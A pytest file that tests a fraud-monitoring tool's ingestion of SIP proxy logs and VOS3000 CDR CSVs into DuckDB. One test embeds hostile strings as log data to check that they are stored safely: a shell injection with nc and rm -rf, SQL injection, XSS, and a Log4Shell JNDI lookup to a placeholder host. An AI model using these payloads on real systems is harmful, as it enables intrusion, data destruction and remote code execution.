"""Backfill ingest on real files into a real DuckDB file: every line accounted for, exactly once."""

from __future__ import annotations

import datetime as dt
import gzip
import json
import random
import shutil
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from fraudwatch.config import IngestConfig
from fraudwatch.formats.registry import Format
from fraudwatch.ingest import FileSummary, Ingestor
from fraudwatch.ingest import csvfiles as ingest_csv
from fraudwatch.store.db import Store, open_read_only
from tests.conftest import Run


def sip_lines(n: int, start: int = 0) -> list[str]:
    out = []
    for i in range(start, start + n):
        ts = f"2026-11-20 03:{(i // 60) % 60:02d}:{i % 60:02d}.{i % 1000:03d}"
        ip = f"198.51.100.{i % 250 + 1}"
        match i % 4:
            case 0:
                out.append(f'{ts} [INFO] RECV REGISTER from {ip}:5060 user="{1000 + i}" callid="c{i}" ua="UA {i}"')
            case 1:
                out.append(f'{ts} [INFO] SEND 401 Unauthorized to {ip}:5060 method=REGISTER user="{i}" callid="c{i}"')
            case 2:
                out.append(f"{ts} [DEBUG] timer T1 fired for transaction z9hG4bK{i}")
            case _:
                out.append(f'{ts} [INFO] SEND 200 OK to {ip}:5060 method=REGISTER user="{i}" callid="c{i}" expires=60')
    return out


def write(path: Path, lines: list[str], mode: str = "w") -> None:
    with path.open(mode, encoding="utf-8") as f:
        f.write("".join(line + "\n" for line in lines))


def ingest(db: Path, formats: dict[str, Format], path: Path, fmt: str | None = "vos3000-sipproxy",
           options: IngestConfig | None = None) -> FileSummary:
    with Store(db) as store:
        s = Ingestor(store, formats, options).ingest(path, fmt)
    assert s.error is None, s.error
    assert s.parsed + s.counts.ignored + s.counts.rejected == s.lines
    return s


def count(db: Path, sql: str) -> int:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return int(con.execute(sql).fetchall()[0][0])
    finally:
        con.close()


def test_counts_add_up_and_a_second_ingest_adds_nothing(tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
    log = tmp_path / "sipproxy.log"
    write(log, sip_lines(1000))
    first = ingest(db, formats, log)
    assert (first.lines, first.parsed, first.counts.ignored, first.counts.rejected) == (1000, 750, 250, 0)
    assert dict(first.counts.parsed) == {"request": 250, "response": 500}
    again = ingest(db, formats, log)
    assert (again.lines, again.parsed) == (0, 0)
    assert count(db, "SELECT count(*) FROM sip_events") == 750
    assert count(db, "SELECT count(DISTINCT id) FROM sip_events") == 750


def test_grown_file_adds_only_the_new_part_and_waits_for_a_partial_line(
        tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
    log = tmp_path / "sipproxy.log"
    write(log, sip_lines(10))
    ingest(db, formats, log)
    tail = sip_lines(3, start=10)
    with log.open("a") as f:
        f.write(tail[0] + "\n" + tail[1][:20])  # a line half written
    grown = ingest(db, formats, log)
    assert grown.lines == 1 and grown.pending_bytes == 20
    with log.open("a") as f:
        f.write(tail[1][20:] + "\n" + tail[2] + "\n")
    rest = ingest(db, formats, log)
    assert rest.lines == 2 and rest.pending_bytes == 0
    assert count(db, "SELECT count(*) FROM sip_events") == 13 - 3  # i = 2, 6, 10 are DEBUG lines (ignored)
    assert count(db, "SELECT max(line_no) FROM sip_events") == 13
    assert count(db, "SELECT count(*) FROM sip_events WHERE call_id = 'c11' AND line_no = 12") == 1


def test_renamed_or_compressed_copy_is_not_read_twice(tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
    log = tmp_path / "sipproxy.log"
    write(log, sip_lines(5000))
    ingest(db, formats, log)
    rotated = tmp_path / "sipproxy.log.1"
    log.rename(rotated)
    assert ingest(db, formats, rotated).lines == 0
    with rotated.open("rb") as src, gzip.open(tmp_path / "sipproxy.log.1.gz", "wb") as dst:
        shutil.copyfileobj(src, dst)
    assert ingest(db, formats, tmp_path / "sipproxy.log.1.gz").lines == 0
    assert count(db, "SELECT count(*) FROM sip_events") == 3750


def test_gzip_file_is_read_whole(tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
    path = tmp_path / "old.log.gz"
    with gzip.open(path, "wt", encoding="utf-8") as f:
        f.write("\n".join(sip_lines(400)))  # no newline after the last line: a compressed file is complete
    s = ingest(db, formats, path)
    assert (s.lines, s.parsed) == (400, 300)


def test_chunk_boundaries_do_not_change_the_result(tmp_path: Path, formats: dict[str, Format]) -> None:
    log = tmp_path / "sipproxy.log"
    lines = sip_lines(300)
    lines[77] = "garbage line"
    write(log, lines)
    tiny = IngestConfig(chunk_bytes=97, max_line_bytes=4096, max_raw_bytes=4096)
    ingest(tmp_path / "a.duckdb", formats, log, options=tiny)
    ingest(tmp_path / "b.duckdb", formats, log)
    q = "SELECT list(struct_pack(line_no, byte_offset, call_id, src_ip, ts) ORDER BY line_no)::VARCHAR FROM sip_events"
    a = duckdb.connect(str(tmp_path / "a.duckdb"), read_only=True).execute(q).fetchall()
    b = duckdb.connect(str(tmp_path / "b.duckdb"), read_only=True).execute(q).fetchall()
    assert a == b
    raw = log.read_bytes()
    row = duckdb.connect(str(tmp_path / "a.duckdb"), read_only=True).execute(
        "SELECT line_no, byte_offset, raw FROM rejects").fetchall()
    assert row == [(78, raw.index(b"garbage line"), "garbage line")]


def test_hostile_input_is_stored_verbatim_or_repaired_or_rejected_with_reasons(
        tmp_path: Path, db: Path, cli: Callable[..., Run]) -> None:
    rng = random.Random(7)
    evil_uas = ['$(reboot); `id` | nc 192.0.2.1 4444 && rm -rf / #',
                "'; DROP TABLE sip_events; --",
                '<script>alert("x")</script><img src=x onerror=alert(1)>',
                '%s%n%x {{7*7}} ${jndi:ldap://192.0.2.1/a} \\x00 \u202e\u0000']
    good = sip_lines(4)
    chunks = [line.encode() + b"\n" for line in good]
    for ua in evil_uas:
        line = f'2026-11-20 04:00:00.000 [INFO] RECV OPTIONS from 192.0.2.9:5060 callid="e" ua="{ua}"'
        chunks.append(line.encode("utf-8") + b"\n")
    chunks.append(bytes(rng.randrange(256) for _ in range(5000)).replace(b"\n", b"") + b"\n")  # binary noise
    bad_utf8 = b"2026-11-20 04:00:00.000 [INFO] RECV REGISTER from 192.0.2.9:5060 user=\"\xff\" callid=\"e\x00\" " \
               b"ua=\"\xc3\x28\"\n"
    chunks.append(bad_utf8)
    chunks.append(b"A" * (10 << 20) + b"\n")  # a 10 MB line
    chunks.append(b"\x00\x00\x00\n")
    chunks.extend(line.encode() + b"\n" for line in sip_lines(4, start=4))
    log = tmp_path / "sipproxy.log"
    log.write_bytes(b"".join(chunks))

    run = cli("--db", db, "ingest", "--format", "vos3000-sipproxy", "--json", log)
    assert run.code == 0, run.err
    summary = json.loads(run.out)["files"][0]
    total = len(chunks)
    assert summary["lines"] == total
    assert summary["parsed"] + summary["ignored"] + summary["rejected"] == total
    assert summary["repaired"] == 4  # the NUL user-agent, the binary noise, the bad UTF-8, the NULs
    con = duckdb.connect(str(db), read_only=True)
    stored = {r[0]: r[1] for r in con.execute(
        "SELECT user_agent, repaired FROM sip_events WHERE method = 'OPTIONS'").fetchall()}
    nul_ua = evil_uas[3]
    # stored verbatim, as data; the one carrying a NUL stored too, its NUL replaced and the row flagged
    assert stored == {**{ua: False for ua in evil_uas if "\x00" not in ua}, nul_ua.replace("\x00", "\ufffd"): True}
    assert con.execute("SELECT src_ip, username, call_id, user_agent, repaired FROM sip_events WHERE line_no = ?",
                       [4 + 4 + 2]).fetchall() == [("192.0.2.9", "\ufffd", "e\ufffd", "\ufffd(", True)]  # repaired
    reasons = dict(con.execute("SELECT line_no, reason FROM rejects").fetchall())
    assert reasons == {4 + 4 + 1: "no pattern matched",  # the binary noise
                       4 + 4 + 3: f"line too long ({10 << 20} bytes)", 4 + 4 + 4: "no pattern matched"}
    assert con.execute("SELECT raw FROM rejects WHERE line_no = ?", [4 + 4 + 4]).fetchall() == [("\ufffd" * 3,)]
    assert con.execute("SELECT max(strlen(raw)) FROM rejects").fetchall()[0][0] <= 4096 * 4
    assert con.execute("SELECT count(*) FROM sip_events").fetchall()[0][0] == 3 + 3 + 4 + 1
    assert con.execute("SELECT count(*) FROM sip_events WHERE NOT repaired").fetchall()[0][0] == 3 + 3 + 3
    con.close()


def test_folder_with_mixed_files_detects_each_format(tmp_path: Path, db: Path, cli: Callable[..., Run]) -> None:
    folder = tmp_path / "logs"
    (folder / "cdr").mkdir(parents=True)
    write(folder / "sipproxy.log", sip_lines(40))
    (folder / "cdr" / "e_cdr_20261120.csv").write_text(
        "flowno,starttime,stoptime,calleee164,callerip,fee,customeraccount\n"
        "1,1763607600000,1763607662000,0044,198.51.100.7,0.5,10001\n", encoding="utf-8")
    (folder / "customers.csv").write_text("account,name,money,limitmoney\n10001,A,5,1\n", encoding="utf-8")
    run = cli("--db", db, "ingest", "--json", folder)
    assert run.code == 0, run.err
    got = {Path(f["path"]).name: (f["format"], f["parsed"]) for f in json.loads(run.out)["files"]}
    assert got == {"sipproxy.log": ("vos3000-sipproxy", 30), "e_cdr_20261120.csv": ("vos3000-cdr", 1),
                   "customers.csv": ("vos3000-customers", 1)}


def test_cdr_csv_grows_overlaps_and_uses_chinese_gb18030_labels(
        tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
    cdr = tmp_path / "e_cdr_20261120.csv"
    header = "flowno,starttime,stoptime,holdtime,fee,customeraccount,calleee164,callerip\n"
    rows = [f"{i},{1763607600000 + i * 1000},{1763607660000 + i * 1000},60,0.25,10001,00447700900{i:03d},198.51.100.7\n"
            for i in range(1, 6)]
    cdr.write_text(header + "".join(rows[:3]), encoding="utf-8")
    assert ingest(db, formats, cdr, None).parsed == 3
    cdr.write_text(header + "".join(rows), encoding="utf-8")
    grown = ingest(db, formats, cdr, None)
    assert (grown.lines, grown.parsed) == (2, 2)
    overlap = tmp_path / "export-again.csv"  # another export covering rows 4..5 plus a new one
    overlap.write_text(header + rows[3] + rows[4] + rows[4].replace("5,", "6,", 1), encoding="utf-8")
    s = ingest(db, formats, overlap, None)
    assert (s.parsed, s.counts.ignored) == (1, 2)
    zh = tmp_path / "导出.csv"
    zh.write_bytes(("序列号,起始时间,终止时间,被叫号码,主叫号码,通话费用\n"
                    "9,2026-11-20 08:00:00,2026-11-20 08:01:00,8613800138000,1001,1.25\n").encode("gb18030"))
    s = ingest(db, formats, zh, None)
    assert (s.format, s.parsed) == ("vos3000-cdr", 1)
    assert count(db, "SELECT count(*) FROM cdrs") == 7
    assert count(db, "SELECT count(*) FROM cdrs WHERE flowno = 9 AND fee = 1.25 AND callee_e164 = '8613800138000' "
                     "AND start_time = TIMESTAMPTZ '2026-11-20 08:00:00+00'") == 1


def test_cdr_csv_values_are_read_without_surrounding_whitespace(tmp_path: Path, db: Path,
                                                                formats: dict[str, Format]) -> None:
    """Spaces, tabs and no-break spaces around a value are not part of it (an account '10001\\t' would be a
    second account); a required value that is only whitespace is missing, and one within is kept."""
    cdr = tmp_path / "e_cdr_20261120.csv"
    cdr.write_text("flowno,starttime,stoptime,holdtime,fee,customeraccount,customername,calleee164,callerip\n"
                   " 1 ,\t1763607600000\t, 1763607660000,\t60 , 0.25\t,\u00a010001\u00a0, Big  Co ,"
                   " 0044770090001 ,\t198.51.100.7 \n"
                   "2,1763607600000,1763607660000,60,0.25,10001,x, \t ,198.51.100.7\n", encoding="utf-8")
    s = ingest(db, formats, cdr, None)
    assert (s.parsed, s.counts.rejected, dict(s.counts.reasons)) == (1, 1, {"missing callee_e164": 1})
    con = duckdb.connect(str(db), read_only=True)
    try:
        assert con.execute("SELECT flowno, start_time, hold_seconds, fee, customer_account, customer_name, "
                           "callee_e164, caller_ip FROM cdrs").fetchall() == [
            (1, dt.datetime(2025, 11, 20, 3, 0, tzinfo=dt.UTC), 60, Decimal("0.2500"), "10001", "Big  Co",
             "0044770090001", "198.51.100.7")]
    finally:
        con.close()


def test_cdr_csv_read_in_small_pieces_stores_what_one_piece_does(tmp_path: Path, formats: dict[str, Format],
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """A CSV is committed piece by piece (`PIECE_ROWS`): the rows, their line numbers, the rejects, the
    duplicates skipped and the position are those of one piece, and a .gz's unterminated last row is read."""
    header = "flowno,starttime,stoptime,holdtime,fee,customeraccount,calleee164,callerip\n"
    rng = random.Random(5)
    rows: list[str] = []
    for i in range(1, 400):
        row = f"{i},{1763607600000 + i * 1000},{1763607660000 + i * 1000},60,0.25,1000{i % 7},0044790{i},198.51.100.7"
        if i % 97 == 0:
            row += ",one,too,many"
        elif i % 89 == 0:
            row = row.replace(",0.25,", ",lots,")
        elif i % 53 == 0:
            row = ""
        rows.append(row)
        if i > 50 and rng.random() < 0.3:  # an export overlapping itself: a row from a few pieces back again
            rows.append(rows[rng.randrange(len(rows) - 50, len(rows))])
    body = header + "\n".join(rows)
    stored: dict[str, tuple[object, ...]] = {}
    for name, piece_rows in (("whole", 10**6), ("pieces", 7)):
        monkeypatch.setattr(ingest_csv, "PIECE_ROWS", piece_rows)
        for suffix in (".csv", ".csv.gz"):
            path = tmp_path / name / f"e_cdr_20261120{suffix}"
            path.parent.mkdir(exist_ok=True)
            data = (body + ("" if suffix.endswith(".gz") else "\n")).encode()
            path.write_bytes(gzip.compress(data) if suffix.endswith(".gz") else data)
            db = tmp_path / f"{name}{suffix}.duckdb"
            s = ingest(db, formats, path, None, IngestConfig(chunk_bytes=301))
            con = duckdb.connect(str(db), read_only=True)
            stored[name + suffix] = (
                s.lines, s.parsed, s.counts.ignored, s.counts.rejected, sorted(s.counts.reasons.items()),
                con.execute("SELECT flowno, start_time, fee, line_no FROM cdrs ORDER BY flowno").fetchall(),
                con.execute("SELECT line_no, reason, raw FROM rejects ORDER BY line_no").fetchall(),
                con.execute("SELECT byte_offset, line_no FROM positions").fetchall())
            con.close()
    assert stored["whole.csv"] == stored["pieces.csv"] and stored["whole.csv.gz"] == stored["pieces.csv.gz"]
    lines, parsed, ignored, rejected, _, cdrs, rejects, _ = stored["pieces.csv"]
    blank = sum(1 for r in rows if not r)
    assert lines == parsed + ignored + rejected == len(rows) - blank  # blank rows are not rows
    assert parsed == 399 - blank - 4 - 4 and ignored > 50 and len(rejects) == rejected > 8
    assert stored["pieces.csv.gz"][5] == cdrs  # the last row, unterminated in the .gz, is stored there too


@pytest.mark.parametrize("size", [301, 1 << 16, 1 << 22])
def test_csv_pieces_hold_whole_lines_piece_rows_at_a_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                          size: int) -> None:
    """Each piece but the last holds exactly PIECE_ROWS lines, whatever the read size and line lengths; together
    they are the file from the start offset, each ending where the next starts; an unterminated last line is held
    back unless the file is final."""
    monkeypatch.setattr(ingest_csv, "PIECE_ROWS", 1000)
    rng = random.Random(7)
    lines = [b"x" * rng.choice([0, 1, 40, 200, 500]) + b"\n" for _ in range(4321)]
    path = tmp_path / "rows.csv"
    path.write_bytes(b"header\n" + b"".join(lines) + b"tail")
    for final in (False, True):
        pieces = [(p.body, p.end) for p in ingest_csv.csv_pieces(path, 7, size, final)]
        assert [p.count(b"\n") for p, _ in pieces] == [1000] * 4 + [321] + ([0] if final else [])
        assert b"".join(p for p, _ in pieces) == b"".join(lines) + (b"tail" if final else b"")
        ends = [end for _, end in pieces]
        assert ends == [7 + sum(len(p) for p, _ in pieces[:i + 1]) for i in range(len(pieces))]
    # lines too long for PIECE_ROWS of them in PIECE_BLOCKS reads: pieces end at their last whole line
    pieces = [(p.body, p.end) for p in ingest_csv.csv_pieces(path, 7, 1 << 16, True)]
    monkeypatch.setattr(ingest_csv, "PIECE_ROWS", 10**6)
    long = [(p.body, p.end) for p in ingest_csv.csv_pieces(path, 7, 1 << 16, True)]
    assert len(long) >= 3 and all(len(p) < 5 * (1 << 16) and p.endswith(b"\n") for p, _ in long[:-1])
    assert b"".join(p for p, _ in long) == b"".join(p for p, _ in pieces)


def test_cdr_pieces_become_segments_in_file_order(tmp_path: Path, formats: dict[str, Format]) -> None:
    """CDRs read in pieces: each piece is written as a segment in its transaction, in file order; a few rows added
    later wait in the hot table and become a segment when the store closes."""
    rows = ingest_csv.PIECE_ROWS + 25_000
    path = tmp_path / "e_cdr_20261120.csv"
    with path.open("w", encoding="utf-8") as f:
        f.write("flowno,starttime,stoptime,holdtime,fee,customeraccount,calleee164,callerip\n")
        f.writelines(f"{i},{1763607600000 + i * 10},{1763607660000 + i * 10},60,0.25,1000{i % 7},0044790{i},"
                     f"198.51.100.{i % 200}\n" for i in range(1, rows + 1))
    with Store(tmp_path / "s.duckdb") as store:
        s = Ingestor(store, formats).ingest(path, None)
        segments = store.con.execute("SELECT rows FROM segments WHERE tbl = 'cdrs' ORDER BY seq").fetchall()
        assert segments == [(ingest_csv.PIECE_ROWS,), (25_000,)]
        assert store.con.execute("SELECT count(*) FROM hot_cdrs").fetchall() == [(0,)]
    assert s.parsed == rows
    with path.open("a", encoding="utf-8") as f:  # an export that grows by a few rows: they wait hot
        f.write(f"{rows + 1},1763617600000,1763617660000,60,0.25,10001,00447901,198.51.100.9\n")
    with Store(tmp_path / "s.duckdb") as store:
        assert Ingestor(store, formats).ingest(path, None).parsed == 1
        assert store.con.execute("SELECT count(*) FROM hot_cdrs").fetchall() == [(1,)]
    con = open_read_only(tmp_path / "s.duckdb")
    assert con.execute("SELECT rows FROM segments ORDER BY seq").fetchall() == [(ingest_csv.PIECE_ROWS,), (25_000,),
                                                                              (1,)]
    assert con.execute("SELECT count(*) FROM hot_cdrs").fetchall() == [(0,)]
    assert con.execute("SELECT flowno FROM cdrs LIMIT 3").fetchall() == [(1,), (2,), (3,)]
    assert con.execute("SELECT count(DISTINCT flowno), count(*) FROM cdrs").fetchall() == [(rows + 1, rows + 1)]
    con.close()


def test_unreadable_and_missing_paths_are_one_line_errors(tmp_path: Path, db: Path, cli: Callable[..., Run]) -> None:
    run = cli("--db", db, "ingest", tmp_path / "nope.log")
    assert run.code != 0 and run.err.count("\n") == 1 and "no such file" in run.err
    corrupt = tmp_path / "old.log.gz"
    corrupt.write_bytes(b"this is not gzip data\n")
    run = cli("--db", db, "ingest", "--format", "vos3000-sipproxy", corrupt)
    assert run.code == 1 and "Not a gzipped file" in run.err and "Traceback" not in run.out + run.err
    assert run.err.count("\n") == 1
